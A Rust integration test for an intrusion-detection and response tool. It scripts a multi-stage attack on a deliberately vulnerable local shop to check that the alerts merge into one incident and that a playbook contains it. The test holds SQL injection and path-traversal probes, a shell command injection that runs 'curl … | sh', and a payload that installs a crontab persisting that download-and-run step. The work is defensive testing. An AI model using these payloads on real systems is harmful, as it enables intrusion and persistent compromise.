//! A multi-stage attack, scripted against a live server, a proxy, an agent and the real
//! CrowdSec firewall bouncer on this machine (as root; cleaned up after):
//!
//! 1. one address probes a shop behind `watchpost proxy` with SQL injection and path
//!    traversal, hits a honeypot decoy, and logs in successfully;
//! 2. it exploits a command injection in the shop, which runs as `www-data`: the web
//!    server's account spawns a shell, which runs `curl … | sh`, whose script installs a
//!    crontab and stays on as a beacon.
//!
//! The result must be **one** incident holding the web and host alerts, its chain in time
//! order along the kill chain, a risk score with its terms, and the playbook's actions: the
//! address banned at the proxy and in the bouncer's nftables set, the process tree killed,
//! the crontab quarantined (and restored by an undo), each with its result and undo. The
//! same run with the playbook in `simulate` mode changes nothing and records every
//! "would have".

mod common;

use common::bouncer::{Bouncer, nft_set};
use common::{BIN, Server, create_token, free_port, get_json, http};
use serde_json::{Value, json};
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::time::Duration;

const ATTACKER: &str = "203.0.113.66";
const CRONTAB: &str = "/var/spool/cron/crontabs/www-data";
/// The marker of everything the attack leaves (crontab line, beacon), for the cleanup.
const MARK: &str = "wp-attack-test";
/// What the beacon runs (a duration nothing else on the machine sleeps for).
const BEACON: &str = "sleep 613";
/// www-data's uid and gid on Debian.
const WWW_DATA: u32 = 33;

/// A child process killed when dropped.
struct Running(Child);

impl Drop for Running {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

/// Removes what the attack left on the host: www-data's crontab and the beacon.
fn clean_host() {
    let _ = Command::new("crontab")
        .args(["-r", "-u", "www-data"])
        .stderr(Stdio::null())
        .status();
    let _ = Command::new("pkill")
        .args(["-KILL", "-u", "www-data", "-f", BEACON])
        .status();
}

/// Cleans the host when dropped, whatever happened.
struct Cleanup;

impl Drop for Cleanup {
    fn drop(&mut self) {
        clean_host();
    }
}

/// The vulnerable shop: `/lookup?host=` hands its parameter to a shell (the injection),
/// `/login` accepts anyone, `/x.sh` serves the attacker's script (the attacker's own server
/// in real life; the same process here).
fn shop_source(port: u16) -> String {
    format!(
        r#"import http.server, subprocess, urllib.parse
PAYLOAD = b"""(crontab -l 2>/dev/null; echo '*/5 * * * * curl -s http://127.0.0.1:{port}/x.sh | sh # {MARK}') | crontab -
exec {BEACON}
"""
class Shop(http.server.BaseHTTPRequestHandler):
    def do_GET(self):
        url = urllib.parse.urlparse(self.path)
        query = urllib.parse.parse_qs(url.query)
        if url.path == "/lookup":
            subprocess.Popen(["/bin/sh", "-c", "getent hosts " + query.get("host", [""])[0]],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
            body = b"looked up"
        elif url.path == "/x.sh":
            body = PAYLOAD
        else:
            body = b"<html>shop</html>"
        self.answer(200, body)
    def do_POST(self):
        self.rfile.read(int(self.headers.get("content-length", 0)))
        self.answer(200 if self.path == "/login" else 404, b"welcome")
    def answer(self, status, body):
        self.send_response(status)
        self.send_header("content-length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)
    def log_message(self, *args):
        pass
http.server.ThreadingHTTPServer(("127.0.0.1", {port}), Shop).serve_forever()
"#
    )
}

/// A request from the attacker through the proxy; its status (0 when refused at the door).
async fn through(http: &reqwest::Client, proxy: u16, method: &str, path: &str) -> u16 {
    let request = match method {
        "POST" => http
            .post(format!("http://127.0.0.1:{proxy}{path}"))
            .header("content-type", "application/x-www-form-urlencoded")
            .body("username=alice&password=hunter2"),
        _ => http.get(format!("http://127.0.0.1:{proxy}{path}")),
    };
    match request
        .header("X-Forwarded-For", ATTACKER)
        .header("User-Agent", "Mozilla/5.0 (X11; Linux x86_64)")
        .send()
        .await
    {
        Ok(r) => r.status().as_u16(),
        Err(_) => 0,
    }
}

async fn wait_for<T, F, Fut>(what: &str, seconds: u64, mut check: F) -> T
where
    F: FnMut() -> Fut,
    Fut: std::future::Future<Output = Option<T>>,
{
    for _ in 0..seconds * 10 {
        if let Some(found) = check().await {
            return found;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    panic!("timed out after {seconds} s waiting for: {what}");
}

/// The attacker's incident, once it holds alerts from the host too.
async fn attack_incident(http: &reqwest::Client, server: &Server) -> Option<Value> {
    let list = get_json(http, server.url("/api/v1/incidents?limit=100")).await;
    let found = list["items"].as_array()?.iter().find(|i| {
        i["entities"]
            .as_array()
            .is_some_and(|e| e.contains(&json!(format!("ip:{ATTACKER}"))))
    })?;
    let id = found["id"].as_str()?;
    Some(get_json(http, server.url(&format!("/api/v1/incidents/{id}"))).await)
}

fn detectors(incident: &Value) -> Vec<String> {
    incident["chain"]
        .as_array()
        .unwrap()
        .iter()
        .map(|s| s["detector"].as_str().unwrap().to_string())
        .collect()
}

fn actions_of<'a>(incident: &'a Value, kind: &str) -> Vec<&'a Value> {
    incident["actions"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|a| a["kind"] == kind)
        .collect()
}

/// The attack's beacons still running.
fn beacons() -> usize {
    let out = Command::new("pgrep")
        .args(["-u", "www-data", "-f", BEACON])
        .output()
        .unwrap();
    String::from_utf8_lossy(&out.stdout).lines().count()
}

/// The whole stage: server (playbook in `mode`), bouncer, shop, proxy and agent.
struct Stage {
    server: Server,
    proxy_port: u16,
    shop_port: u16,
    table: String,
    _parts: Vec<Running>,
    _bouncer: Bouncer,
}

fn stage(dir: &Path, shop_dir: &Path, mode: &str) -> Stage {
    let config = dir.join("watchpost.toml");
    std::fs::write(
        &config,
        format!(
            r#"
# Contain an attack once it reaches a host from the web.
[[response.playbooks]]
name = "contain"
mode = "{mode}"
matchers = ['detector=~"web|web-honeypot|web-behaviour"', 'detector=~"sigma|fim"']
actions = [
  {{ kind = "block_address", ttl = "1h" }},
  {{ kind = "kill_process" }},
  {{ kind = "quarantine_file" }},
]
"#
        ),
    )
    .unwrap();
    let server = Server::start_with(dir, &["--config", config.to_str().unwrap()]);
    // The agent and the proxy of the shop's host share its name.
    let agent_token = create_token(dir, "shop-1", "agent");
    let proxy_token = create_token(dir, "shop-1", "proxy");
    let bouncer_key = create_token(dir, "firewall", "bouncer");
    let table = format!("wp_chain_{}", std::process::id());
    let bouncer = Bouncer::start(dir, &server.base, &bouncer_key, &table);

    let shop_port = free_port();
    let script = shop_dir.join("shop.py");
    std::fs::write(&script, shop_source(shop_port)).unwrap();
    // Run as www-data (uid and gid 33 on Debian), as a web application is.
    let shop = std::os::unix::process::CommandExt::gid(
        std::os::unix::process::CommandExt::uid(&mut Command::new("/usr/bin/python3"), WWW_DATA),
        WWW_DATA,
    )
    .arg(&script)
    .current_dir(shop_dir)
    .env("HOME", shop_dir)
    .stdout(Stdio::null())
    .stderr(Stdio::null())
    .spawn()
    .expect("the shop");
    let proxy_port = free_port();
    let proxy = Command::new(BIN)
        .current_dir(dir)
        .args(["--log-format", "plain", "proxy"])
        .args(["--listen", &format!("127.0.0.1:{proxy_port}")])
        .args(["--upstream", &format!("http://127.0.0.1:{shop_port}")])
        .args(["--trusted-proxy", "127.0.0.1/32"])
        .args(["--server", &server.base, "--token", &proxy_token])
        .args(["--decisions-every", "1"])
        .args(["--spool", dir.join("proxy-spool").to_str().unwrap()])
        .env_remove("WATCHPOST_CONFIG")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    let agent = Command::new(BIN)
        .current_dir(dir)
        .args(["--log-format", "plain", "agent"])
        .args(["--server", &server.base, "--respond"])
        .args(["--spool", dir.join("agent-spool").to_str().unwrap()])
        .args(["--state-dir", dir.join("agent-state").to_str().unwrap()])
        .args(["--quarantine-dir", dir.join("quarantine").to_str().unwrap()])
        .args(["--no-network"])
        .env("WATCHPOST_TOKEN", &agent_token)
        .env_remove("WATCHPOST_CONFIG")
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    Stage {
        server,
        proxy_port,
        shop_port,
        table,
        _parts: vec![Running(shop), Running(proxy), Running(agent)],
        _bouncer: bouncer,
    }
}

/// The attack, step by step; returns the incident once the host alerts joined it.
async fn attack(http: &reqwest::Client, stage: &Stage) -> Value {
    let port = stage.proxy_port;
    wait_for("the shop answers through the proxy", 20, || async {
        (through(http, port, "GET", "/").await == 200).then_some(())
    })
    .await;
    // Give the agent a moment to start its exec source and file watches.
    tokio::time::sleep(Duration::from_secs(2)).await;
    // Probing: SQL injection, path traversal, a decoy.
    through(
        http,
        port,
        "GET",
        "/search?q=1%27%20union%20select%20password%20from%20users--",
    )
    .await;
    through(http, port, "GET", "/download?file=../../../../etc/passwd").await;
    through(http, port, "GET", "/.env").await;
    // A login that succeeds.
    assert_eq!(through(http, port, "POST", "/login").await, 200);
    // The exploit: the command injection fetches and runs the attacker's script.
    let injection =
        "/lookup?host=localhost%3B%20curl%20-s%20http%3A%2F%2F127.0.0.1%3APORT%2Fx.sh%20%7C%20sh";
    through(
        http,
        port,
        "GET",
        &injection.replace("PORT", &stage.shop_port.to_string()),
    )
    .await;
    for _ in 0..600 {
        if let Some(incident) = attack_incident(http, &stage.server).await {
            let d = detectors(&incident);
            if d.iter().any(|d| d == "sigma") && d.iter().any(|d| d == "fim") {
                return incident;
            }
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let incidents = get_json(http, stage.server.url("/api/v1/incidents?limit=100")).await;
    let summaries: Vec<String> = incidents["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(incident_summary)
        .collect();
    let detections = get_json(http, stage.server.url("/api/v1/detections?limit=100")).await;
    let rules: Vec<String> = detections["items"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| {
            format!(
                "{} {} {} {}",
                d["detector"], d["rule_id"], d["host"], d["entity"]
            )
        })
        .collect();
    panic!(
        "the incident never held both the web and the host alerts:\n{}\ndetections:\n{}",
        summaries.join("\n"),
        rules.join("\n")
    )
}

fn require_root_and_tools() -> bool {
    let root = unsafe { libc::geteuid() } == 0;
    let tools = [
        "crowdsec-firewall-bouncer",
        "nft",
        "crontab",
        "runuser",
        "curl",
    ]
    .iter()
    .all(|t| {
        Command::new("sh")
            .args(["-c", &format!("command -v {t}")])
            .output()
            .is_ok_and(|o| o.status.success())
    });
    let account = Command::new("id")
        .arg("www-data")
        .output()
        .is_ok_and(|o| o.status.success());
    if root && tools && account && Path::new("/usr/bin/python3").exists() {
        return true;
    }
    assert!(
        std::env::var("CI").as_deref() != Ok("true"),
        "CI runs the scripted attack as root with crowdsec-firewall-bouncer, nftables, cron, curl and python3"
    );
    eprintln!(
        "skipped: needs root, www-data, crowdsec-firewall-bouncer, nft, crontab, curl, /usr/bin/python3"
    );
    false
}

/// A directory www-data may read (the test's own temporary directories are root's).
fn shop_dir() -> PathBuf {
    let dir = std::env::temp_dir().join(format!("wp-shop-{}", std::process::id()));
    std::fs::create_dir_all(&dir).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&dir, std::fs::Permissions::from_mode(0o755)).unwrap();
    dir
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_multi_stage_attack_is_one_incident_and_the_playbook_contains_it() {
    if !require_root_and_tools() {
        return;
    }
    let _cleanup = Cleanup;
    let shop = shop_dir();
    let http = http();

    // First in simulate mode: every "would have", nothing changed.
    {
        let dir = tempfile::tempdir().unwrap();
        let stage = stage(dir.path(), &shop, "simulate");
        attack(&http, &stage).await;
        let incident = wait_for("the playbook's simulated actions", 30, || async {
            let i = attack_incident(&http, &stage.server).await?;
            let kinds = ["block_address", "kill_process", "quarantine_file"];
            kinds
                .iter()
                .all(|k| !actions_of(&i, k).is_empty())
                .then_some(i)
        })
        .await;
        for action in incident["actions"].as_array().unwrap() {
            assert_eq!(action["state"], "simulated", "{action:#}");
            let last = action["history"].as_array().unwrap().last().unwrap()["what"]
                .as_str()
                .unwrap()
                .to_string();
            assert!(last.starts_with("would have"), "{last}");
        }
        assert!(beacons() > 0, "the beacon still runs");
        assert!(Path::new(CRONTAB).exists(), "the crontab is still there");
        assert_eq!(
            through(&http, stage.proxy_port, "GET", "/").await,
            200,
            "not banned"
        );
        assert!(!nft_set(&stage.table).contains(ATTACKER));
        let decisions = get_json(&http, stage.server.url("/api/v1/decisions")).await;
        assert_eq!(decisions["items"], json!([]));
    }
    // A clean slate for the real run.
    clean_host();

    let dir = tempfile::tempdir().unwrap();
    let stage = stage(dir.path(), &shop, "auto");
    attack(&http, &stage).await;
    let incident = wait_for("the playbook's actions done", 60, || async {
        let i = attack_incident(&http, &stage.server).await?;
        let done = |kind: &str| actions_of(&i, kind).iter().any(|a| a["state"] == "done");
        (done("block_address") && done("kill_process") && done("quarantine_file")).then_some(i)
    })
    .await;
    let summary = incident_summary(&incident);
    eprintln!("{summary}");

    // One incident with the web and the host alerts, in time order along the kill chain.
    let list = get_json(&http, stage.server.url("/api/v1/incidents?limit=100")).await;
    let attacker_incidents = list["items"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|i| {
            i["entities"]
                .as_array()
                .unwrap()
                .contains(&json!(format!("ip:{ATTACKER}")))
        })
        .count();
    assert_eq!(attacker_incidents, 1, "{list:#}");
    let d = detectors(&incident);
    for detector in ["web", "web-honeypot", "web-behaviour", "sigma", "fim"] {
        assert!(
            d.iter().any(|x| x == detector),
            "{detector} missing from {d:?}"
        );
    }
    let chain = incident["chain"].as_array().unwrap();
    let times: Vec<&str> = chain
        .iter()
        .map(|s| s["first_seen"].as_str().unwrap())
        .collect();
    let mut sorted = times.clone();
    sorted.sort();
    assert_eq!(times, sorted, "the chain is in time order");
    let tactics: Vec<&str> = chain.iter().filter_map(|s| s["tactic"].as_str()).collect();
    // Reconnaissance (the decoy), initial access (the injections, the login), persistence
    // (the web shell, the crontab), command and control (the download run unseen).
    for tactic in ["TA0043", "TA0001", "TA0003", "TA0011"] {
        assert!(
            tactics.contains(&tactic),
            "{tactic} missing from {tactics:?}"
        );
    }
    let last_web = chain
        .iter()
        .rposition(|s| s["detector"].as_str().unwrap().starts_with("web"))
        .unwrap();
    let first_host = chain.iter().position(|s| s["detector"] == "sigma").unwrap();
    assert!(
        last_web < first_host,
        "the web steps lead to the host steps: {summary}"
    );
    assert!(
        chain
            .iter()
            .any(|s| s["rule_id"] == "web.login_after_attack"
                || s["title"]
                    .as_str()
                    .unwrap()
                    .starts_with("Login from an address")),
        "the successful login is a step: {summary}"
    );
    // A risk score that explains itself.
    let risk = &incident["risk"];
    assert!(risk["score"].as_u64().unwrap() >= 40, "{risk}");
    let terms: Vec<&str> = risk["terms"]
        .as_array()
        .unwrap()
        .iter()
        .map(|t| t["name"].as_str().unwrap())
        .collect();
    for term in ["severity", "kill_chain", "techniques"] {
        assert!(
            terms.iter().any(|t| t.contains(term)),
            "{term} missing from {terms:?}"
        );
    }

    // The actions, each with its result and undo.
    let ban = actions_of(&incident, "block_address")[0];
    assert_eq!(ban["target"]["ip"], ATTACKER);
    assert!(
        ban["undo"].as_str().unwrap().starts_with("lift decision"),
        "{ban:#}"
    );
    wait_for("the proxy refuses the attacker", 20, || async {
        (through(&http, stage.proxy_port, "GET", "/").await == 403).then_some(())
    })
    .await;
    wait_for(
        "the attacker is in the bouncer's nftables set",
        20,
        || async { nft_set(&stage.table).contains(ATTACKER).then_some(()) },
    )
    .await;
    let kills = actions_of(&incident, "kill_process");
    assert!(
        kills
            .iter()
            .any(|a| a["state"] == "done"
                && a["result"]["message"].as_str().unwrap().contains("sleep")),
        "the beacon died with its tree: {summary}"
    );
    wait_for("no beacon left", 10, || async {
        (beacons() == 0).then_some(())
    })
    .await;
    let quarantined = actions_of(&incident, "quarantine_file")
        .into_iter()
        .find(|a| a["target"]["path"] == CRONTAB && a["state"] == "done")
        .unwrap_or_else(|| panic!("the crontab is quarantined: {summary}"))
        .clone();
    assert!(!Path::new(CRONTAB).exists(), "moved aside");
    let sha = quarantined["result"]["undo"]["sha256"].as_str().unwrap();
    assert_eq!(sha.len(), 64);
    assert!(
        quarantined["undo"]
            .as_str()
            .unwrap()
            .starts_with("restore "),
        "{quarantined:#}"
    );

    // Undo the quarantine: the file comes back as it was.
    let id = quarantined["id"].as_str().unwrap();
    let undone = http
        .post(stage.server.url(&format!("/api/v1/actions/{id}/undo")))
        .send()
        .await
        .unwrap();
    assert_eq!(undone.status(), 200);
    wait_for("the crontab restored", 30, || async {
        let a = get_json(&http, stage.server.url(&format!("/api/v1/actions/{id}"))).await;
        (a["state"] == "undone").then_some(())
    })
    .await;
    let restored = std::fs::read_to_string(CRONTAB).unwrap();
    assert!(restored.contains(MARK), "{restored}");
}

/// The incident in a few lines, for failure messages.
fn incident_summary(incident: &Value) -> String {
    let mut out = format!(
        "incident {} risk {}\n",
        incident["title"], incident["risk"]["score"]
    );
    for s in incident["chain"].as_array().into_iter().flatten() {
        out.push_str(&format!(
            "  {} {:<8} {:<14} {}\n",
            s["first_seen"].as_str().unwrap_or(""),
            s["tactic"].as_str().unwrap_or("-"),
            s["detector"].as_str().unwrap_or(""),
            s["title"].as_str().unwrap_or("")
        ));
    }
    for a in incident["actions"].as_array().into_iter().flatten() {
        out.push_str(&format!(
            "  action {} {} {} — {}\n",
            a["kind"], a["state"], a["target"], a["result"]["message"]
        ));
    }
    out
}
